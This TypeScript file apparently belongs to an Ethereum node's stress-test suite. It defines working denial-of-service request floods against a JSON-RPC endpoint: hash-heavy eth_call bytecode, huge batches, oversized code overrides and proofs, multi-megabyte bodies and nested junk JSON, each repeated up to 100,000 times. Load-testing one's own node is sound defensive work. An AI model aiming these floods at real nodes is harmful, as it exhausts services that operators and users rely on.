/** Attacks by requests that cost the node much and the caller little. */
import { bytesToHex } from "../../src/base/hex.ts";
import { assemble } from "../unit/evm/bytecode.ts";
import {
  type Attack,
  type AttackTarget,
  call,
  post,
  repeat,
  requestText,
} from "./attack-target.ts";

const MEGABYTE = 1 << 20;
const GAS = "0x2faf080";
const MANY = 100_000;
const HASHES = bytesToHex(assemble(`PUSH ${MEGABYTE} PUSH 0 KECCAK256 POP `.repeat(60)));
const DIVISIONS = bytesToHex(
  assemble(`PUSH ${2n ** 255n} ${"DUP1 DUP1 PUSH 7 DIV DIV POP ".repeat(6_500)}`),
);
const LONG_CODE = `0x${"5b".repeat(2_400_000)}`;
const ADDRESS = `0x${"11".repeat(20)}`;
const word = (value: number): string => `0x${value.toString(16).padStart(64, "0")}`;

/** The same request again and again. */
function again(
  width: number,
  method: string,
  params: (index: number) => readonly unknown[],
): Attack {
  return (target) =>
    repeat(target, { width, most: MANY }, (index) => call(target, method, params(index)));
}

function heavyBatch(target: AttackTarget): Promise<void> {
  const items = Array.from({ length: 100 }, (_, id) =>
    requestText("eth_call", [{ data: HASHES, gas: GAS }, "latest"], id),
  );
  return repeat(target, { width: 4, most: MANY }, () => post(target, `[${items.join(",")}]`));
}

export const READ_ATTACKS: Readonly<Record<string, Attack>> = {
  "keccak-calls": again(16, "eth_call", () => [{ data: HASHES, gas: GAS }, "latest"]),
  "keccak-estimates": again(16, "eth_estimateGas", () => [{ data: HASHES, gas: GAS }, "latest"]),
  "straight-line-calls": again(16, "eth_call", () => [{ data: DIVISIONS, gas: GAS }, "latest"]),
  "heavy-batch": heavyBatch,
  "override-code": again(8, "eth_call", (index) => [
    { to: ADDRESS },
    "latest",
    { [ADDRESS]: { code: `${LONG_CODE}${(index % 65_536).toString(16).padStart(4, "0")}` } },
  ]),
  "get-proof": again(16, "eth_getProof", () => [
    ADDRESS,
    Array.from({ length: 1_024 }, (_, index) => word(index)),
    "latest",
  ]),
  authorizations: again(8, "eth_call", () => [
    {
      to: ADDRESS,
      authorizationList: Array.from({ length: 1_900 }, (_, nonce) => ({
        ...{ chainId: "0x0", address: ADDRESS, nonce: `0x${nonce.toString(16)}` },
        ...{ yParity: "0x0", r: word(5), s: word(7) },
      })),
    },
    "latest",
  ]),
  "txpool-content": again(8, "txpool_content", () => []),
  "fee-history": again(16, "eth_feeHistory", () => ["0x400", "latest", [10, 50, 90]]),
  "large-requests": (target) => {
    const body = `{"jsonrpc":"2.0","id":1,"method":"eth_call","params":["${"0".repeat(4_800_000)}"]}`;
    return repeat(target, { width: 16, most: 5_000 }, () => post(target, body));
  },
  filters: again(16, "eth_newFilter", (index) => [
    {
      address: Array.from({ length: 1_000 }, (_, at) => `0x${word(index * 1_000 + at).slice(26)}`),
    },
  ]),
  "junk-json": (target) =>
    repeat(target, { width: 16, most: MANY }, (index) => post(target, "[".repeat(index % 100_000))),
};
